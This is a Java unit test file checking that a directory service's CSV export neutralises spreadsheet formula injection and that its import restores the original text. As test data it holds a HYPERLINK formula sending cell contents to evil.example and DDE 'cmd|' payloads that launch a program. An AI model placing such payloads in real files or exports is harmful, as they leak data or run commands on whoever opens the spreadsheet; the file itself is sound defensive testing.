package de.datenhafen.plugins.social;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The public tabular export ({@code GET /export.zip}) writes no cell a spreadsheet would run as a formula: a text
 * starting with {@code = + - @}, a tab or a carriage return gets a single quote before it, inside the quoted field;
 * plain numbers stay numbers; the tabular import takes that one quote off, so the export imports back unchanged.
 */
class TabularFormulaTest {

    /** The probe's service name and description (hsds-formula-service.json). */
    private static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Details\")";
    private static final String DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

    @TempDir
    Path folder;
    private Directory dir;
    private ObjectNode formulas;

    @BeforeEach
    void open() throws Exception {
        dir = TestDb.demoDirectory("formulas");
        // a service whose location no other service shares: the package holds a shared location once
        List<ObjectNode> all = dir.export().services();
        formulas = all.stream().filter(s -> all.stream().filter(o -> locationId(o).equals(locationId(s))).count() == 1)
            .findFirst().orElseThrow().put("name", HYPERLINK).put("description", DDE)
            .put("alternate_name", "'=schon zitiert / quoted already");
        ObjectNode location = (ObjectNode) formulas.get("service_at_locations").get(0).get("location");
        location.put("latitude", -12.5).put("longitude", -0.25).put("description", "-1+1 oder / or +A1");
        dir.putService(Callers.owner(), formulas, null);
        formulas = dir.service(Json.str(formulas, "id")).json();
        dir.sent(Long.MAX_VALUE);
    }

    private static String locationId(ObjectNode service) {
        return String.valueOf(Json.str(service.get("service_at_locations").get(0).get("location"), "id"));
    }

    /** The files of {@code GET /export.zip} as an anonymous caller gets them. */
    private Map<String, String> exportZip() throws IOException {
        Api.Response r = HubAnswers.of(new Api(dir, Limits.DEFAULTS, new TabularExport(folder)),
            new Api.Request("GET", "export.zip", null, null, null, null));
        assertThat(r.status()).isEqualTo(200);
        Map<String, String> files = new LinkedHashMap<>();
        try (InputStream in = r.stream(); ZipInputStream z = new ZipInputStream(in)) {
            for (ZipEntry e = z.getNextEntry(); e != null; e = z.getNextEntry()) {
                files.put(e.getName(), new String(z.readAllBytes(), StandardCharsets.UTF_8));
            }
        }
        return files;
    }

    @Test
    void theProbesFormulasReachServicesCsvAsTextBehindAQuote() throws IOException {
        String services = exportZip().get("services.csv");

        assertThat(services).contains(",\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A2,\"\"Details\"\")\",")
            .contains(",\"'@SUM(1+1)*cmd|' /C calc'!A0\"")
            .doesNotContain(",=HYPERLINK").doesNotContain(",\"=HYPERLINK").doesNotContain(",\"@SUM")
            .doesNotContain(",@SUM");
    }

    @Test
    void eachCharacterThatStartsAFormulaGetsAQuoteInsideTheQuotedField() {
        assertThat(List.of("=1+1", "+1+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1", "+49 451 765319", "'=1", "''@x")
            .stream().map(TabularWriter::cell).toList())
            .containsExactly("\"'=1+1\"", "\"'+1+1\"", "\"'-1+A1\"", "\"'@SUM(A1)\"", "\"'\t=1\"", "\"'\r=1\"",
                "\"'+49 451 765319\"", "\"''=1\"", "\"'''@x\"");
        assertThat(List.of("Beratung", "a=b", " =1", "'quoted", "", "Schulden, Miete").stream()
            .map(TabularWriter::cell).toList())
            .as("text not starting a formula: as RFC 4180 alone writes it")
            .containsExactly("Beratung", "a=b", " =1", "'quoted", "", "\"Schulden, Miete\"");
    }

    @Test
    void plainNumbersStayNumbersInTheExport() throws IOException {
        Map<String, String> files = exportZip();

        assertThat(List.of("-12.5", "+3", "-0", "1.0E-5", "-2.5e+3", ".5").stream().map(TabularWriter::cell).toList())
            .containsExactly("-12.5", "+3", "-0", "1.0E-5", "-2.5e+3", ".5");
        assertThat(files.get("locations.csv")).contains(",-12.5,").contains(",-0.25")
            .contains("\"'-1+1 oder / or +A1\"");
        ObjectNode descriptor = (ObjectNode) Json.parse(files.get("datapackage.json").getBytes(StandardCharsets.UTF_8));
        assertThat(descriptor.toString()).contains("{\"name\":\"latitude\",\"type\":\"number\"}");
    }

    @Test
    void theTabularExportImportsBackWithItsFormulasAsTheTextsTheyWere() throws IOException {
        Map<String, String> files = exportZip();
        Map<String, byte[]> bytes = new LinkedHashMap<>();
        files.forEach((name, text) -> bytes.put(name, text.getBytes(StandardCharsets.UTF_8)));
        byte[] zip = TabularWriter.zip(bytes);

        DataSet back = DataSets.fromZip(zip);
        ObjectNode service = back.services().stream().filter(s -> Json.str(formulas, "id").equals(Json.str(s, "id")))
            .findFirst().orElseThrow();

        assertThat(Json.str(service, "name")).isEqualTo(HYPERLINK);
        assertThat(Json.str(service, "description")).isEqualTo(DDE);
        assertThat(Json.str(service, "alternate_name")).isEqualTo("'=schon zitiert / quoted already");
        Directory.ImportReport report = dir.importSet(back, null);
        assertThat(report.services().toJson().toString()).isEqualTo("{\"created\":0,\"updated\":0,\"deleted\":0,"
            + "\"unchanged\":50}");
        assertThat(report.total().created() + report.total().updated()).as("organisations, taxonomies, terms")
            .isZero();
        assertThat(dir.outbox(10)).as("no event").isEmpty();
    }

    @Test
    void theImportTakesOffOnlyTheOneQuoteTheExportAdds() {
        assertThat(List.of("'=1+1", "''=1", "'\t=1", "'+49 451 765319", "'-12.5", "'+3", "'abc", "'", "''", "=1",
            "-12.5").stream().map(CsvFormulas::restore).toList())
            .containsExactly("=1+1", "'=1", "\t=1", "+49 451 765319", "'-12.5", "'+3", "'abc", "'", "''", "=1",
                "-12.5");
        for (String text : List.of(HYPERLINK, DDE, "'=x", "'''-y", "-12.5", "'-12.5", "'abc", "+", "-", "", "a")) {
            assertThat(CsvFormulas.restore(CsvFormulas.neutralise(text))).as(text).isEqualTo(text);
        }
    }

    @Test
    void aFieldNamedLikeAFormulaIsNeutralisedInTheHeaderAndImportsBack() throws IOException {
        ObjectNode withField = formulas.deepCopy().put("=cmd|' /C calc'!A0", "x");
        dir.putService(Callers.owner(), withField, null);

        Map<String, String> files = exportZip();
        String header = files.get("services.csv").lines().findFirst().orElseThrow();
        Map<String, byte[]> bytes = new LinkedHashMap<>();
        files.forEach((name, text) -> bytes.put(name, text.getBytes(StandardCharsets.UTF_8)));
        ObjectNode back = DataSets.fromZip(TabularWriter.zip(bytes)).services().stream()
            .filter(s -> Json.str(formulas, "id").equals(Json.str(s, "id"))).findFirst().orElseThrow();

        assertThat(header).contains(",\"'=cmd|' /C calc'!A0\"").doesNotContain(",=cmd");
        assertThat(Json.str(back, "=cmd|' /C calc'!A0")).isEqualTo("x");
    }
}
